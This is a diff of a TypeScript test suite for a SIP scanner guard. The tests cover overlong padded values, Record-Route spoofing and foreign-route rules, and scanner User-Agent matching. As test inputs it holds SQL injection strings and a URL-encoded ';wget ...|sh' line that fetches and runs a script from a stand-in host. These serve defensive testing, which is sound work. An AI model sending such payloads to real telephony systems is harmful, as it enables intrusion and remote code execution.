@@ -71,7 +71,7 @@ function assertBan(v: Verdict, rule: string): void {
   assert.equal(v.target, undefined, 'the source address is banned');
 }
 
-const reg = (headers: Record<string, string | null>) =>
+const reg = (headers: Record<string, string | string[] | null>) =>
   request(headers, { method: 'REGISTER', startLine: 'REGISTER sip:pbx.example.com SIP/2.0' });
 
 const digest = (username: string) =>
@@ -346,6 +346,66 @@ describe('scanner guard: sql_injection', () => {
   }
 });
 
+describe('scanner guard: nothing hides behind padding (overlong_value, every line read)', () => {
+  const pad = 'a'.repeat(512);
+
+  it('SQL injection in the 17th, and the 64th, Proxy-Authorization is banned', () => {
+    for (const count of [17, 64]) {
+      const lines = Array.from({ length: count - 1 }, (_, i) => digest(`user${i}`));
+      const data = reg({ 'Proxy-Authorization': [...lines, digest("admin' or '1'='1")] });
+      assertBan(check(guardWith(), data), 'sql-injection');
+    }
+  });
+
+  it('an injection after 512 characters of padding is refused (digest username, From, To, Request-URI)', () => {
+    const cases: Array<[string, Buffer]> = [
+      ['digest username', reg({ Authorization: digest(`${pad}' or '1'='1`) })],
+      ['From user', request({ From: `<sip:${pad}'or'1'='1@pbx.example.com>;tag=1` })],
+      ['To user (does not decode)', request({ To: `<sip:${pad}' or 1=1--@;transport=UDP>` })],
+      ['Request-URI user', request({}, { startLine: `OPTIONS sip:${pad}%27%20OR%201%3D1--@pbx.example.com SIP/2.0` })],
+    ];
+    for (const [where, data] of cases) {
+      const v = check(guardWith(), data);
+      assertVerdict(v, 'drop', 'overlong-value');
+      assert.match(v.action === 'drop' ? (v.detail ?? '') : '', /more than the 512 inspected/, where);
+    }
+    // An injection inside the first 512 characters still bans as one.
+    assertBan(check(guardWith(), reg({ Authorization: digest(`' or '1'='1${pad}`) })), 'sql-injection');
+  });
+
+  it('a From that does not decode is read whole, past 1024 characters', () => {
+    const v = check(guardWith(), request({ From: `<sip:${'b'.repeat(1100)}' or 1=1--@;transport=UDP>;tag=1` }));
+    assertVerdict(v, 'drop', 'overlong-value');
+  });
+
+  it('a long name with no character an injection needs passes (nothing in it could be one)', () => {
+    assert.equal(
+      check(guardWith(), request({ From: `<sip:${'x'.repeat(2000)}@pbx.example.com>;tag=1` })).action,
+      'pass',
+    );
+    assert.equal(check(guardWith(), reg({ Authorization: digest('u'.repeat(1500)) })).action, 'pass');
+  });
+
+  it('a second User-Agent line is read too', () => {
+    const data = request({ 'User-Agent': ['Yealink SIP-T46S 66.86.0.15', 'friendly-scanner'] });
+    assertBan(check(guardWith(), data), 'user-agent');
+  });
+
+  it('with a /regex/ pattern, a User-Agent longer than the 1024 octets it reads is refused', () => {
+    const g = guardWith('guards:\n  scanner:\n    user_agents: [friendly-scanner, "/^sipcli\\/v[0-9]/"]');
+    assertVerdict(check(g, options({ userAgent: `Yealink ${'x'.repeat(1100)}` })), 'drop', 'overlong-value');
+    // Substrings are matched on the whole value: the tool's name after the padding is found.
+    assertBan(check(g, options({ userAgent: `${'x'.repeat(1100)} friendly-scanner` })), 'user-agent');
+    // Without regexes a long User-Agent is matched whole, and passes when clean.
+    assert.equal(check(guardWith(), options({ userAgent: `Yealink ${'x'.repeat(1100)}` })).action, 'pass');
+  });
+
+  it('an SDP session name is matched on its whole line', () => {
+    const body = `v=0\r\no=- 1 1 IN IP4 192.0.2.1\r\ns=${'-'.repeat(300)}sipcli\r\nt=0 0\r\n`;
+    assertBan(check(guardWith(), invite({ body })), 'sdp-session-name');
+  });
+});
+
 describe('scanner guard: shell_metacharacters', () => {
   const cases: Array<[string, Buffer]> = [
     ['To user ;wget ...|sh', request({ To: '<sip:%3Bwget%20http%3A%2F%2F198.51.100.9%2Fx.sh%7Csh@pbx.example.com>' })],
@@ -471,8 +531,99 @@ describe('scanner guard: record_route_spoofing', () => {
   });
 
   it('other proxies in Record-Route pass; responses carrying our own Record-Route pass', () => {
-    assert.equal(check(guardWith(), rr('<sip:192.0.2.99;lr>, <sip:proxy.example.net;lr>'), PHONE).action, 'pass');
+    // The sender record-routes itself on top (RFC 3261 16.6 step 4); proxies before it below.
+    assert.equal(
+      check(guardWith(), rr('<sip:198.51.100.23:5060;lr>, <sip:192.0.2.99;lr>, <sip:proxy.example.net;lr>'), PHONE)
+        .action,
+      'pass',
+    );
     assert.equal(check(guardWith(), ok200({ recordRoute: '<sip:127.4.0.1;lr>' }), PHONE).action, 'pass');
+  });
+
+  it('reads every Record-Route entry: one naming sipwarden as the 64th is dropped', () => {
+    const others = Array.from({ length: 63 }, (_, i) => `<sip:192.0.2.${i + 1};lr>`);
+    const data = rr([`<sip:${PHONE.address};lr>`, ...others.slice(1), '<sip:127.4.0.1;lr>'].join(', '));
+    assertVerdict(check(guardWith(), data, PHONE), 'drop', 'record-route-spoofing');
+  });
+});
+
+describe('scanner guard: record_route_foreign and record_route_register', () => {
+  const rr = (value: string, method = 'INVITE') =>
+    request({ 'Record-Route': value }, { method, startLine: `${method} sip:bob@example.com SIP/2.0` });
+
+  it('a top Record-Route naming another host than the sender is dropped (default)', () => {
+    const v = check(guardWith(), rr('<sip:192.0.2.98:5099;lr>'), PHONE);
+    assertVerdict(v, 'drop', 'record-route-foreign');
+    assert.match(v.action === 'drop' ? (v.detail ?? '') : '', /does not name the sender 198\.51\.100\.23/);
+    // Only the top entry must be the sender: one below it is a proxy before it.
+    assertVerdict(
+      check(guardWith(), rr('<sip:192.0.2.98;lr>, <sip:198.51.100.23;lr>'), PHONE),
+      'drop',
+      'record-route-foreign',
+    );
+  });
+
+  it('the sender on top passes, any port, any case, IPv6 and IPv4-mapped sources too', () => {
+    assert.equal(check(guardWith(), rr('<sip:198.51.100.23;lr;ftag=a>'), PHONE).action, 'pass');
+    assert.equal(check(guardWith(), rr('<sip:trunk@198.51.100.23:5080;transport=tcp;lr>'), PHONE).action, 'pass');
+    const v6: Source = { transport: 'udp', address: '2001:db8::7', port: 5060, family: 6 };
+    assert.equal(check(guardWith(), rr('<sip:[2001:DB8:0::7]:5060;lr>'), v6).action, 'pass');
+    const mapped: Source = { transport: 'udp', address: '::ffff:198.51.100.23', port: 5060, family: 6 };
+    assert.equal(check(guardWith(), rr('<sip:198.51.100.23;lr>'), mapped).action, 'pass');
+  });
+
+  it('a host name on top is flagged unless listed in record_route_hosts (never resolved)', () => {
+    assertVerdict(check(guardWith(), rr('<sip:sbc.carrier.example;lr>'), PHONE), 'drop', 'record-route-foreign');
+    const listed = guardWith(
+      'guards:\n  scanner:\n    record_route_hosts: [SBC.Carrier.Example, 192.0.2.0/28, "2001:db8:5::/48"]',
+    );
+    assert.equal(check(listed, rr('<sip:sbc.carrier.example;lr>'), PHONE).action, 'pass');
+    assert.equal(check(listed, rr('<sip:sbc.carrier.example.;lr>'), PHONE).action, 'pass');
+    assert.equal(check(listed, rr('<sip:192.0.2.9;lr>'), PHONE).action, 'pass');
+    assert.equal(check(listed, rr('<sip:[2001:db8:5::1];lr>'), PHONE).action, 'pass');
+    assertVerdict(check(listed, rr('<sip:other.carrier.example;lr>'), PHONE), 'drop', 'record-route-foreign');
+    assertVerdict(check(listed, rr('<sip:192.0.2.99;lr>'), PHONE), 'drop', 'record-route-foreign');
+    assertVerdict(check(listed, rr('<tel:+4930123;lr>'), PHONE), 'drop', 'record-route-foreign');
+  });
+
+  it('a Record-Route that does not decode is dropped, not passed unread', () => {
+    const v = check(guardWith(), rr('<sip:192.0.2.98;lr>, <'), PHONE);
+    assertVerdict(v, 'drop', 'record-route-foreign');
+    assertVerdict(
+      check(guardWith(), rr(`<sip:${PHONE.address};lr>, <sip:x@[::1;lr>`), PHONE),
+      'drop',
+      'record-route-foreign',
+    );
+    assertVerdict(check(guardWith(), rr('<', 'REGISTER'), PHONE), 'drop', 'record-route-register');
+  });
+
+  it('any Record-Route on a REGISTER is dropped, even one naming the sender', () => {
+    for (const value of ['<sip:127.0.0.98:5099;lr>', '<sip:198.51.100.23;lr>']) {
+      const v = check(guardWith(), rr(value, 'REGISTER'), PHONE);
+      assertVerdict(v, 'drop', 'record-route-register');
+    }
+    const off = guardWith('guards:\n  scanner:\n    signals: {record_route_register: off}');
+    assert.equal(check(off, rr('<sip:198.51.100.23;lr>', 'REGISTER'), PHONE).action, 'pass');
+  });
+
+  it('the actions are configurable; the spoofing signal is reported first among equals', () => {
+    const g = guardWith('guards:\n  scanner:\n    signals: {record_route_foreign: ban, record_route_register: reply}');
+    assertBan(check(g, rr('<sip:192.0.2.98;lr>'), PHONE), 'record-route-foreign');
+    assertVerdict(check(g, rr('<sip:198.51.100.23;lr>', 'REGISTER'), PHONE), 'reply', 'record-route-register');
+    assertVerdict(check(guardWith(), rr('<sip:127.4.0.1;lr>'), PHONE), 'drop', 'record-route-spoofing');
+    const off = guardWith('guards:\n  scanner:\n    signals: {record_route_foreign: off}');
+    assert.equal(check(off, rr('<sip:192.0.2.98;lr>'), PHONE).action, 'pass');
+  });
+
+  it('record_route_hosts entries are checked when the configuration loads', () => {
+    assert.throws(
+      () => configured('guards:\n  scanner:\n    record_route_hosts: ["bad host!"]'),
+      /record_route_hosts\[0\]: must be a domain name, an IP address or a network/,
+    );
+    assert.throws(
+      () => configured('guards:\n  scanner:\n    record_route_hosts: ["10.0.0.0/99"]'),
+      /record_route_hosts/,
+    );
   });
 });
 
@@ -552,6 +703,7 @@ describe('scanner guard: actions, strongest wins, score', () => {
       '      user_agent: {action: score, points: 4}',
       '      ip_literal_host: {action: score, points: 3}',
       '      record_route_spoofing: {action: score, points: 5}',
+      '      record_route_foreign: off',
     ].join('\n');
     const g = guardWith(yaml);
     const ua = options({ userAgent: 'friendly-scanner' });
